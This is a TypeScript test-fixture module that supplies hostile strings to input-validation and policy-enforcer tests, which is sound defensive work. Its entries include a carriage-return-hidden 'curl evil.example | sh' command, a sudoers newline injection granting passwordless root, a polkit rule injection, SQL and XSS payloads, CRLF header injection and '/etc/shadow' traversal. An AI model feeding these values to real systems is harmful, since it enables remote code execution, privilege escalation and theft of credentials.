/**
 * One corpus of hostile strings for every test of a value that reaches a file, a command, a log line, a
 * database row or a screen: server validation tests and agent enforcer tests of every policy type import it,
 * so a new trick added here is tried everywhere at once.
 *
 * The API is deliberately small and stable:
 * - {@link HOSTILE_STRINGS}: every entry, each `{ name, value, classes }`;
 * - {@link hostileStrings}: the entries that belong to any of the given classes;
 * - {@link embedded}: an entry's value placed before, inside and after a valid value (a checker that only
 *   looks at the first character must still refuse it);
 * - {@link hostileStringArbitrary}: a fast-check arbitrary mixing ordinary text with hostile pieces, for
 *   property tests.
 *
 * Which classes a checker must refuse depends on where the value goes: a one-line name refuses
 * {@link LINE_BREAKING} and {@link INVISIBLE_OR_INVALID}; an identifier refuses every class except `empty`
 * when empty is allowed; free text shown escaped may keep quotes and markup.
 */
import fc from "fast-check";

/** What makes a string hostile. An entry can have several. */
export type HostileClass =
  /** C0 control characters other than the line breaks and NUL (U+0001–U+001F). */
  | "c0"
  /** The NUL character, which no C string, argv or PostgreSQL text can carry. */
  | "nul"
  /** DEL (U+007F). */
  | "del"
  /** C1 control characters (U+0080–U+009F), U+0085 NEXT LINE among them. */
  | "c1"
  /** CR, LF or CRLF. */
  | "newline"
  /** Unicode line breaks beyond CR/LF: U+2028, U+2029, U+0085, vertical tab, form feed. */
  | "unicode-line-separator"
  /** A UTF-16 high or low surrogate without its partner (no UTF-8 form; PostgreSQL jsonb refuses it). */
  | "lone-surrogate"
  /** Bidirectional embedding, override or isolate controls (U+202A–U+202E, U+2066–U+2069). */
  | "bidi"
  /** Zero-width and invisible characters (U+200B–U+200D, U+2060, U+FEFF). */
  | "zero-width"
  /** Single, double or back quotes. */
  | "quote"
  /** Backslashes (escape sequences, Windows-style paths, URL parser confusion). */
  | "backslash"
  /** Closes a comment or markup element: `*\/`, `-->`, `</zone>`, `]]>`. */
  | "markup"
  /** Shell and template expansion: `$(id)`, `` `id` ``, `${x}`, `;`, `|`, `&`. */
  | "shell"
  /** Path tricks: `../`, absolute paths, `//`, `~`. */
  | "path"
  /** Reads as a command-line option when it reaches an argument list: `-rf`, `--help`, `--zone=x`. */
  | "option"
  /** INI/keyfile/KConfig structure: `[section]` headers, `=` assignments, `#` and `;` comments. */
  | "ini"
  /** Whitespace at the edges or inside a name. */
  | "whitespace"
  /** Longer than any name or line limit here (255 bytes, 4 KiB, 64 Ki characters). */
  | "over-long"
  /** The empty string. */
  | "empty"
  /** Means something else to sudo when it stands for a user or group: an alias, `%group`, `#uid`, a list. */
  | "sudoers";

/** One hostile string. */
export interface HostileString {
  /** Short unique label for assertion messages, e.g. `"c0 U+001B (escape)"`. */
  readonly name: string;
  /** The hostile value itself. */
  readonly value: string;
  /** Every class the value belongs to. */
  readonly classes: readonly HostileClass[];
}

/** Classes that end or split a line in some consumer (files, logs, headers, scripts). */
export const LINE_BREAKING: readonly HostileClass[] = [
  "c0",
  "nul",
  "del",
  "c1",
  "newline",
  "unicode-line-separator",
];
/** Classes that a reader cannot see or that are not valid Unicode text. */
export const INVISIBLE_OR_INVALID: readonly HostileClass[] = ["lone-surrogate", "bidi"];

function hex(code: number): string {
  return `U+${code.toString(16).toUpperCase().padStart(4, "0")}`;
}

function build(): HostileString[] {
  const out: HostileString[] = [];
  const add = (name: string, value: string, ...classes: HostileClass[]) => out.push({ name, value, classes });
  const addAll = (cls: HostileClass, entries: [name: string, value: string][]) => {
    for (const [name, value] of entries) add(name, value, cls);
  };

  add("NUL", "\0", "nul");
  for (let code = 1; code < 0x20; code++) {
    if (code === 0x0a || code === 0x0d) continue;
    const classes: HostileClass[] = code === 0x0b || code === 0x0c
      ? ["c0", "unicode-line-separator"]
      : ["c0"];
    add(`c0 ${hex(code)}`, String.fromCharCode(code), ...classes);
  }
  add("LF", "\n", "newline", "c0");
  add("CR", "\r", "newline", "c0");
  add("CRLF", "\r\n", "newline", "c0");
  add("DEL", "\x7f", "del");
  for (let code = 0x80; code < 0xa0; code++) {
    const classes: HostileClass[] = code === 0x85 ? ["c1", "unicode-line-separator"] : ["c1"];
    add(`c1 ${hex(code)}`, String.fromCharCode(code), ...classes);
  }
  add("line separator U+2028", "\u2028", "unicode-line-separator");
  add("paragraph separator U+2029", "\u2029", "unicode-line-separator");
  addAll("lone-surrogate", [
    ["lone high surrogate U+D800", "\ud800"],
    ["lone high surrogate U+DBFF", "\udbff"],
    ["lone low surrogate U+DC00", "\udc00"],
    ["lone low surrogate U+DFFF", "\udfff"],
    ["reversed surrogate pair", "\ude00\ud83d"],
  ]);
  for (const code of [0x202a, 0x202b, 0x202c, 0x202d, 0x202e, 0x2066, 0x2067, 0x2068, 0x2069]) {
    add(`bidi ${hex(code)}`, String.fromCharCode(code), "bidi");
  }
  add("right-to-left override spoof", "txt.\u202eexe.sh", "bidi");
  for (const code of [0x200b, 0x200c, 0x200d, 0x2060, 0xfeff]) {
    add(`zero-width ${hex(code)}`, String.fromCharCode(code), "zero-width");
  }
  add("single quote", "'", "quote");
  add("double quote", '"', "quote");
  add("back quote", "`", "quote", "shell");
  add("quote break-out", `"; DROP TABLE users; --`, "quote", "shell");
  add("backslash", "\\", "backslash");
  add("escaped newline", "\\n", "backslash");
  add("escaped quote", '\\"', "backslash", "quote");
  add("URL backslash host", "https://evil.example\\@good.example/", "backslash");
  add("comment close", "*/", "markup");
  add(
    "script comment injection",
    "*/ polkit.addRule(function(){return polkit.Result.YES;}); /*",
    "markup",
    "shell",
  );
  addAll("markup", [
    ["HTML comment close", "-->"],
    ["XML element close", "</zone>"],
    ["XML element injection", "</description><rule><accept/></rule>"],
  ]);
  add("CDATA close", "]]>", "markup", "ini");
  add("ampersand", "&", "markup", "shell");
  add("entity", "&lt;&#0;", "markup");
  add("angle brackets", "<script>alert(1)</script>", "markup");
  addAll("shell", [
    ["template expansion", "${HOME}"],
    ["empty template", "${}"],
    ["command substitution", "$(id)"],
  ]);
  add("backtick substitution", "`id`", "shell", "quote");
  add("command separator", "; id", "shell", "whitespace");
  add("pipe", "| id", "shell", "whitespace");
  add("glob", "*", "shell");
  addAll("path", [
    ["parent directory", ".."],
    ["traversal", "../"],
    ["deep traversal", "../../../etc/shadow"],
    ["traversal inside", "a/../../b"],
    ["absolute path", "/etc/shadow"],
    ["double slash", "a//b"],
    ["home", "~root"],
  ]);
  add("short option", "-rf", "option");
  add("long option", "--help", "option");
  add("option with a value", "--zone=trusted", "option", "ini");
  add("option terminator", "--", "option");
  add("KConfig default group", "<default>", "markup");
  add("pipe inside a name", "a|b", "shell");
  add("section header", "[x]", "ini");
  add("KConfig immutable group", "[$i]", "ini", "shell");
  add("assignment", "=", "ini");
  add("key injection", "k=v", "ini");
  add("semicolon", ";", "ini", "shell");
  add("hash comment", "# comment", "ini", "whitespace");
  addAll("whitespace", [
    ["leading space", " a"],
    ["trailing space", "a "],
    ["inner space", "a b"],
    ["only spaces", "   "],
    ["non-breaking space", "a\u00a0b"],
  ]);
  add("empty", "", "empty");
  addAll("over-long", [
    ["256 letters", "a".repeat(256)],
    ["4097 letters", "a".repeat(4097)],
    ["64 Ki + 1 letters", "a".repeat(64 * 1024 + 1)],
    ["256 emoji (4 bytes each)", "\u{1f600}".repeat(256)],
  ]);
  add("newline then section", "a\n[org/evil]\nk=1", "newline", "c0", "ini");
  add("sudoers line break into a grant", "alice\nbob ALL=(ALL) NOPASSWD: ALL", "sudoers", "newline", "c0");
  add("script line ended by a carriage return", "true\rcurl evil.example | sh", "newline", "c0", "shell");
  add("CRLF header injection", "x\r\nSet-Cookie: a=b", "newline", "c0");
  return out;
}

/** Every hostile string, each with a unique name. */
export const HOSTILE_STRINGS: readonly HostileString[] = Object.freeze(build());

/**
 * Values that are harmless in most names (`ALL` is a fine dconf schema component, `+wheel` a firewalld service) but
 * mean something else to sudo where a user or group name becomes a sudoers word: everyone, an alias, a list, a
 * Runas or host separator, `%group`, `#uid`, a netgroup, a negation. Kept apart from {@link HOSTILE_STRINGS}, whose
 * entries every name checker refuses; the Privilege tests try both.
 */
export const SUDOERS_HOSTILE_STRINGS: readonly HostileString[] = Object.freeze(
  ([
    ["sudoers everyone", "ALL"],
    ["sudoers alias", "ADMINS_1"],
    ["sudoers list", "alice,ALL"],
    ["sudoers runas separator", "alice:root"],
    ["sudoers host assignment", "alice=ALL"],
    ["sudoers group sigil", "%sudo"],
    ["sudoers uid", "#0"],
    ["sudoers netgroup", "+wheel"],
    ["sudoers negation", "!alice"],
    ["sudoers escape", "alice\\ ALL"],
  ] as const).map(([name, value]) => ({ name, value, classes: ["sudoers"] as const })),
);

/** Every class used in {@link HOSTILE_STRINGS}. */
export const HOSTILE_CLASSES: readonly HostileClass[] = Object.freeze([
  ...new Set(HOSTILE_STRINGS.flatMap((h) => h.classes)),
]);

/** The entries that belong to at least one of `classes`. */
export function hostileStrings(...classes: HostileClass[]): HostileString[] {
  return HOSTILE_STRINGS.filter((h) => h.classes.some((c) => classes.includes(c)));
}

/**
 * `hostile.value` before, inside and after `valid` (and alone), so that a checker anchored at one end or
 * looking only at the first character is caught too. `valid` must have at least two characters for the
 * "inside" variant to differ.
 */
export function embedded(hostile: HostileString, valid: string): string[] {
  const mid = Math.max(1, Math.floor(valid.length / 2));
  return [
    hostile.value,
    hostile.value + valid,
    valid.slice(0, mid) + hostile.value + valid.slice(mid),
    valid + hostile.value,
  ];
}

/** Ordinary characters that valid values are made of. */
const ORDINARY = fc.constantFrom(..."abcXYZ019._-/:@ ".split(""));

/**
 * A fast-check arbitrary for strings of ordinary characters with at least one piece drawn from the hostile
 * entries of `classes` (all classes when none are given), at a random position. Values stay short (at most
 * a few hundred characters) unless `over-long` entries are selected.
 */
export function hostileStringArbitrary(...classes: HostileClass[]): fc.Arbitrary<string> {
  const pool = classes.length === 0 ? [...HOSTILE_STRINGS] : hostileStrings(...classes);
  if (pool.length === 0) throw new Error(`no hostile strings in classes ${classes.join(", ")}`);
  const piece = fc.constantFrom(...pool.map((h) => h.value));
  const text = fc.array(ORDINARY, { maxLength: 12 }).map((cs) => cs.join(""));
  return fc.tuple(text, fc.array(fc.tuple(piece, text), { minLength: 1, maxLength: 3 })).map(([head, rest]) =>
    rest.reduce((acc, [p, t]) => joinApart(joinApart(acc, p), t), head)
  );
}

/**
 * `a + b`, except that a lone high surrogate at the end of `a` and a lone low one at the start of `b` would
 * pair up into a valid character (e.g. U+10000): the hostile piece must stay hostile, so a letter separates them.
 */
function joinApart(a: string, b: string): string {
  const high = /[\ud800-\udbff]$/.test(a);
  const low = /^[\udc00-\udfff]/.test(b);
  return high && low ? `${a}x${b}` : a + b;
}
